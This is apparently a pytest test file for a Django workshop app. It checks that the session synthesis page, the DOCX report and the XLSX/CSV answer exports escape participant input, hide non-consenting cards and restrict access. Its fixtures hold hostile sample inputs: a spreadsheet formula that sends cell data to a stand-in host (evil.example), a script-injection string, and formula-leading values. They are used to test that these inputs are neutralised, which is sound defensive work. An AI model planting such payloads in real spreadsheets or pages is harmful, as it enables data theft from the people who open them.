"""The synthesis of a session: the page (printable), the DOCX compte rendu and the raw answers
as XLSX and CSV — parsed back and checked, hostile text included."""

import csv
import datetime as dt
import io
from html import unescape
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from docx import Document
from openpyxl import load_workbook

from live import sessions
from live.models import ActivityRun, Response
from tests.conftest import step_titled
from tests.factories import make_workshop, step_with_activity
from tests.live import answer
from workshops.duplication import duplicate_step

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez ici")'
SCRIPT = "<script>alert('synthèse')</script>"
BOARD = "Brainstorming sur les enjeux à l'échelle de l'écosystème"


@pytest.fixture
def workshop(facilitator):
    """The tour de table, the governance vote and the idea board, titled as in the deck."""
    workshop = make_workshop(
        facilitator=facilitator,
        title="Atelier de co-construction n°1",
        venue="Centre social Nelly Roussel",
    )
    step_with_activity(workshop, "icebreaker", title="Tour de table & brise-glace")
    step_with_activity(workshop, "vote")
    step_with_activity(workshop, "ideas", title=BOARD)
    return workshop


@pytest.fixture
def played(live_session):
    """A session where the tour de table, the vote and the idea board were played."""
    session = live_session
    alex = sessions.join(session=session, pseudonym="Alex", structure="CCAS de Nanterre")
    sam = sessions.join(session=session, pseudonym="@SUM(1+1)", structure="+33 1 23 45 67 89")
    lou = sessions.join(session=session)  # no pseudonym: "Participant·e 3"

    icebreaker = step_titled(session, "Tour de table & brise-glace")
    sessions.go_to_step(session=session, step=icebreaker)
    card = {"fonctions": "Médiatrice", "structure": "CCAS de Nanterre", "lien": "Je forme"}
    answer(alex, icebreaker, {**card, "directory": True})
    answer(sam, icebreaker, {"fonctions": HYPERLINK, "structure": "", "lien": SCRIPT})
    answer(
        lou,
        icebreaker,
        {"fonctions": "Élu", "structure": "Mairie secrète", "lien": "Non", "directory": False},
    )

    vote = step_titled(session, "Vote")
    duplicate_step(step=vote)  # a copy, never played in this session
    sessions.go_to_step(session=session, step=vote)
    answer(alex, vote, {"choices": [0]})
    answer(sam, vote, {"choices": [0]})
    answer(lou, vote, {"choices": [1]})

    board = step_titled(session, BOARD)
    sessions.go_to_step(session=session, step=board)
    fonds = answer(alex, board, {"column": "economique", "text": "Un fonds local"})
    bus = answer(sam, board, {"column": "cohesion", "text": SCRIPT})
    evil = answer(lou, board, {"column": "sante", "text": HYPERLINK})
    run = ActivityRun.objects.get(session=session, activity=board.activity)
    sessions.perform_action(session=session, run=run, action="vote", form={"votes": ["2"]})
    answer(alex, board, {"votes": [bus.pk, fonds.pk]})
    answer(sam, board, {"votes": [bus.pk]})
    answer(lou, board, {"votes": [evil.pk]})
    run.refresh_from_db()
    sessions.perform_action(session=session, run=run, action="ranking")
    return session


CARDS = [
    # (pseudonym, card, consents to the directory)
    (
        "Pseudo Alpha",
        {"fonctions": "Médiatrice", "structure": "CCAS de Nanterre", "lien": "Je forme"},
        True,
    ),
    (
        "Pseudo Bravo",
        {"fonctions": "Élu", "structure": "Mairie secrète", "lien": "Je finance"},
        False,
    ),
    ("Pseudo Charlie", {"fonctions": "Conseillère", "structure": "", "lien": "J'accompagne"}, True),
    (
        "Pseudo Delta",
        {"fonctions": "Directeur", "structure": "Cachée SA", "lien": "Je décide"},
        False,
    ),
]
PSEUDONYMS = [pseudonym for pseudonym, _card, _consent in CARDS]


@pytest.fixture
def tour_de_table(live_session):
    """Four cards, two of them for the directory; the round played in order of arrival up to
    the last card, which is on the projector and whose author did not consent."""
    session = live_session
    step = step_titled(session, "Tour de table & brise-glace")
    step.activity.config = {**step.activity.config, "order": "arrival"}
    step.activity.save()
    sessions.go_to_step(session=session, step=step)
    for pseudonym, card, consent in CARDS:
        phone = sessions.join(session=session, pseudonym=pseudonym)
        answer(phone, step, {**card, "directory": consent})
    run = ActivityRun.objects.get(session=session, activity=step.activity)
    for action in ("start", "next", "next", "next"):
        sessions.perform_action(session=session, run=run, action=action)
    return session


def synthesis_url(session, name="synthesis"):
    return reverse(f"workshops:{name}", args=[session.pk])


# The page -----------------------------------------------------------------------------------------
def test_the_synthesis_page_shows_every_activity_the_ranked_ideas_and_the_directory(
    facilitator_client, played
):
    response = facilitator_client.get(synthesis_url(played))
    assert response.status_code == 200
    html = response.content.decode()
    assert "Synthèse — Atelier de co-construction n°1" in html
    assert "Session du" in html
    assert "3 participant·es." in html
    for title in ("Tour de table &amp; brise-glace", "Vote", "Brainstorming sur les enjeux"):
        assert title in html
    assert "Pour : 2 voix (67 %)" in html
    assert "Idées classées par nombre de votes" in html
    ranked = html[html.index("Idées classées") :]
    assert ranked.index("&lt;script&gt;") < ranked.index("Un fonds local")
    # Not played in this session: said so.
    assert "Activité non lancée pendant cette session." in html
    # The directory: consenting cards only, no names.
    directory = html[html.index('id="annuaire"') :]
    assert "CCAS de Nanterre" in directory
    assert "Mairie secrète" not in directory
    assert "Alex" not in directory


def test_participants_markup_is_inert_on_the_page(facilitator_client, played):
    html = facilitator_client.get(synthesis_url(played)).content.decode()
    assert "<script>alert" not in html
    assert "&lt;script&gt;alert(&#x27;synthèse&#x27;)&lt;/script&gt;" in html


def test_the_page_is_printable(facilitator_client, played):
    html = facilitator_client.get(synthesis_url(played)).content.decode()
    assert "data-print" in html
    assert 'href="/static/css/fne.css"' in html
    css = (Path(settings.BASE_DIR) / "static" / "css" / "fne.css").read_text()
    print_rules = css[css.index("/* The workshop synthesis") :]
    assert "@media print" in print_rules
    assert ".synthesis__activity { break-inside: avoid-page" in print_rules
    assert ".synthesis__exports" in print_rules  # the buttons are not printed


def test_the_workshop_page_and_the_control_view_link_to_the_synthesis(facilitator_client, played):
    link = synthesis_url(played)
    workshop_page = facilitator_client.get(reverse("workshops:workshop", args=[played.workshop.pk]))
    assert link in workshop_page.content.decode()
    assert (
        link
        in facilitator_client.get(reverse("workshops:control", args=[played.pk])).content.decode()
    )


PUBLISHED = ["Médiatrice", "CCAS de Nanterre", "Je forme", "Conseillère", "J'accompagne"]
WITHHELD = ["Élu", "Mairie secrète", "Je finance", "Directeur", "Cachée SA", "Je décide"]


def test_the_synthesis_lists_every_card_of_the_tour_de_table_publishing_only_consenting_ones(
    facilitator_client, tour_de_table
):
    html = facilitator_client.get(synthesis_url(tour_de_table)).content.decode()
    activity = step_titled(tour_de_table, "Tour de table & brise-glace").activity
    section = html[html.index(f'id="activite-{activity.pk}"') :]
    section = unescape(section[: section.index("</section>")])
    assert "4 réponses" in section
    # The count and the list agree: two cards shown, the two others said withheld.
    assert section.count("<tr>") == 1 + 2  # the header, then one row per published card
    assert "Les 2 autres cartes ne sont pas publiées" in section
    for text in PUBLISHED:
        assert text in section
    # Nobody's name, nor a withheld card's content, anywhere on the page.
    for text in [*PSEUDONYMS, *WITHHELD]:
        assert text not in unescape(html)


def test_the_docx_lists_the_consenting_cards_and_no_name(facilitator_client, tour_de_table):
    response = facilitator_client.get(synthesis_url(tour_de_table, "synthesis_docx"))
    document = Document(io.BytesIO(response.content))
    paragraphs = [p.text for p in document.paragraphs]
    start = paragraphs.index("Tour de table & brise-glace")
    assert "4 réponses." in paragraphs[start : start + 4]
    assert any("Les 2 autres cartes ne sont pas publiées" in p for p in paragraphs[start:])
    cards = [[cell.text for cell in row.cells] for row in document.tables[0].rows]
    assert cards == [
        ["Vos fonctions", "Votre structure", "Votre lien avec l'inclusion numérique en 1 phrase"],
        ["Médiatrice", "CCAS de Nanterre", "Je forme"],
        ["Conseillère", "—", "J'accompagne"],
    ]
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    text = "\n".join(paragraphs + cells)
    for withheld in [*PSEUDONYMS, *WITHHELD]:
        assert withheld not in text


# DOCX ---------------------------------------------------------------------------------------------
def test_the_docx_compte_rendu_says_what_the_page_says(facilitator_client, played):
    response = facilitator_client.get(synthesis_url(played, "synthesis_docx"))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith(
        'attachment; filename="compte-rendu-atelier-1-'
    )
    document = Document(io.BytesIO(response.content))
    paragraphs = [p.text for p in document.paragraphs]
    assert paragraphs[0] == "Compte rendu — Atelier de co-construction n°1"
    text = "\n".join(paragraphs)
    assert "Centre social Nelly Roussel" in text
    assert "3 participant·es." in text
    headings = [p.text for p in document.paragraphs if p.style.name.startswith("Heading")]
    assert "Vote" in headings
    assert "Brainstorming sur les enjeux à l'échelle de l'écosystème" in headings
    assert "Annuaire des acteurs" in headings
    assert "Pour : 2 voix (67 %)" in paragraphs
    assert "Activité non lancée pendant cette session." in paragraphs
    cards, ideas, directory = document.tables
    # The tour de table: the one consenting card of three, without a name.
    assert [[cell.text for cell in row.cells] for row in cards.rows][1:] == [
        ["Médiatrice", "CCAS de Nanterre", "Je forme"]
    ]
    assert "Les 2 autres cartes ne sont pas publiées" in text
    rows = [[cell.text for cell in row.cells] for row in ideas.rows]
    assert rows[0] == ["Rang", "Idée", "Colonne", "Votes", "Auteur·rices"]
    # Markup typed by a participant is plain text in the document: inert.
    assert rows[1] == ["1", SCRIPT, "Un enjeu de cohésion", "2", "@SUM(1+1)"]
    # A tie shares its rank; the earlier idea comes first.
    assert [row[:2] for row in rows[2:]] == [["2", "Un fonds local"], ["2", HYPERLINK]]
    cards = [[cell.text for cell in row.cells] for row in directory.rows]
    assert cards == [
        ["Structure", "Fonctions", "Lien avec l'inclusion numérique"],
        ["CCAS de Nanterre", "Médiatrice", "Je forme"],
    ]


# XLSX and CSV (what an analyst reads in them: tests/workshops/test_answer_exports.py) ---------
HEADER = [
    "N°",
    "Étape",
    "Activité",
    "Participant·e",
    "Structure",
    "Réponse",
    "Bonnes réponses",
    "Masquée à l'écran",
    "Date et heure",
]


def test_the_xlsx_has_one_row_per_answer_with_formulas_neutralised(facilitator_client, played):
    response = facilitator_client.get(synthesis_url(played, "answers_xlsx"))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = load_workbook(io.BytesIO(response.content))
    rows = list(workbook["Réponses"].iter_rows(values_only=True))
    assert list(rows[0]) == HEADER
    assert len(rows) - 1 == Response.objects.filter(session=played).count() == 12
    by_id = {row[0]: dict(zip(HEADER, row, strict=True)) for row in rows[1:]}
    evil_idea = Response.objects.get(data__text=HYPERLINK)
    assert by_id[evil_idea.pk]["Réponse"] == f"Idées proposées : {HYPERLINK} (Un enjeu de santé)"
    assert by_id[evil_idea.pk]["Participant·e"] == "Participant·e 3"
    sam_card = Response.objects.get(participant__pseudonym="@SUM(1+1)", data__lien=SCRIPT)
    assert by_id[sam_card.pk]["Participant·e"] == "'@SUM(1+1)"
    assert by_id[sam_card.pk]["Structure"] == "'+33 1 23 45 67 89"
    assert by_id[sam_card.pk]["Réponse"] == (
        f"Vos fonctions : {HYPERLINK} · "
        f"Votre lien avec l'inclusion numérique en 1 phrase : {SCRIPT} · "
        "Dans l'annuaire : non"
    )
    # In the sheet per participant, the idea is a cell of its own: neutralised there too.
    ideas = list(workbook["Par participant·e"].iter_rows(values_only=True))
    # Step 4: the copy of the vote came in as step 3.
    column = ideas[0].index(
        "Étape 4 · Brainstorming sur les enjeux à l'échelle de l'écosystème · Idées proposées"
    )
    assert ideas[3][column] == "'" + HYPERLINK + " (Un enjeu de santé)"
    # No cell is a formula; times are real dates.
    cells = [
        cell
        for name in workbook.sheetnames
        for row in workbook[name].iter_rows(min_row=2)
        for cell in row
    ]
    assert all(cell.data_type != "f" for cell in cells)
    assert all(isinstance(row[8], dt.datetime) for row in rows[1:])
    assert [row[2] for row in rows[1:4]] == ["Tour de table & brise-glace"] * 3
    votes = [row[5] for row in rows[1:] if row[2] == "Vote"]
    assert votes == ["Pour", "Pour", "Contre"]


def test_the_csv_has_the_same_rows_with_formulas_neutralised(facilitator_client, played):
    response = facilitator_client.get(synthesis_url(played, "answers_csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0] == HEADER
    assert len(rows) - 1 == 12
    cells = [cell for row in rows[1:] for cell in row]
    assert f"Idées proposées : {HYPERLINK} (Un enjeu de santé)" in cells
    assert "'@SUM(1+1)" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert f"Idées proposées : {SCRIPT} (Un enjeu de cohésion)" in cells  # as text
    assert all(dt.datetime.strptime(row[8], "%Y-%m-%d %H:%M:%S") for row in rows[1:])
    by_participant = facilitator_client.get(synthesis_url(played, "answers_by_participant_csv"))
    table = list(csv.reader(io.StringIO(by_participant.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in table[1:] for cell in row]
    assert "'" + HYPERLINK + " (Un enjeu de santé)" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


# Rights -------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "name",
    ["synthesis", "synthesis_docx", "answers_xlsx", "answers_csv", "answers_by_participant_csv"],
)
def test_only_the_workshops_facilitators_get_the_synthesis(
    client, other_facilitator, live_session, name
):
    url = synthesis_url(live_session, name)
    response = client.get(url)
    assert response.status_code == 302
    assert response.url.startswith("/connexion/")
    client.force_login(other_facilitator)
    assert client.get(url).status_code == 404
